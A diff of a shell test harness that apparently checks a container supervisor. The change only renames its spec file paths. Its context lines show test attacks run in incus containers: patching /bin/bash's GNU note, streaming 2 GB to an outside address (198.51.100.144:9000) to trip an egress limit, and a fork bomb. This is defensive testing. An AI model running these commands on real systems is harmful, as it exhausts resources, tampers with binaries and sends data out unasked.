@@ -31,9 +31,9 @@ attack ()
   only "$name" || return
   local c=${MON_PREFIX}${name}-$$
   mon_container "$c" || { tap_not_ok "$name: container" "cannot start $c"; return; }
-  mon_spec "$MON_TMP/$c.json" "$c" true open
+  mon_spec "$MON_RUN/$c.spec.json" "$c" true open
   local sup
-  sup=$(mon_supervise "$MON_TMP/$c.json") || { tap_not_ok "$name: supervisor" "spawn failed"; return; }
+  sup=$(mon_supervise "$MON_RUN/$c.spec.json") || { tap_not_ok "$name: supervisor" "spawn failed"; return; }
   local t0 ms init stopped
   init=$(mon_init_pid "$c")
   # Without the init's pid, "killed" below would be seen at once.
@@ -99,8 +99,8 @@ c=${MON_PREFIX}patched-$$
 if ! only patched-bash; then
   :
 elif mon_container "$c"; then
-  mon_spec "$MON_TMP/$c.json" "$c" true open
-  sup=$(mon_supervise "$MON_TMP/$c.json")
+  mon_spec "$MON_RUN/$c.spec.json" "$c" true open
+  sup=$(mon_supervise "$MON_RUN/$c.spec.json")
   incus exec "$c" -- python3 -c '
 d = bytearray(open("/bin/bash", "rb").read())
 i = d.find(b"\x04\x00\x00\x00\x14\x00\x00\x00\x03\x00\x00\x00GNU\x00")
@@ -127,8 +127,8 @@ c=${MON_PREFIX}egress-$$
 if ! only egress; then
   :
 elif mon_container "$c"; then
-  mon_spec "$MON_TMP/$c.json" "$c" true open
-  sup=$(mon_supervise "$MON_TMP/$c.json")
+  mon_spec "$MON_RUN/$c.spec.json" "$c" true open
+  sup=$(mon_supervise "$MON_RUN/$c.spec.json")
   # 2 GB to a host outside: over the 100 MB-per-interval egress threshold.
   incus exec "$c" -- sh -c 'head -c 2000000000 /dev/zero | python3 -c "import socket,sys; s=socket.create_connection((\"198.51.100.144\",9000)); [s.sendall(b) for b in iter(lambda: sys.stdin.buffer.read(1<<20), b\"\")]"' >/dev/null 2>&1 &
   ex=$!
@@ -149,8 +149,8 @@ c=${MON_PREFIX}bomb-$$
 if ! only fork-bomb; then
   :
 elif mon_container "$c" -c limits.processes=100; then
-  mon_spec "$MON_TMP/$c.json" "$c" true open
-  sup=$(mon_supervise "$MON_TMP/$c.json")
+  mon_spec "$MON_RUN/$c.spec.json" "$c" true open
+  sup=$(mon_supervise "$MON_RUN/$c.spec.json")
   t0=$(mon_ms)
   incus exec "$c" -- bash -c ':(){ :|:& };:' >/dev/null 2>&1 &
   ex=$!
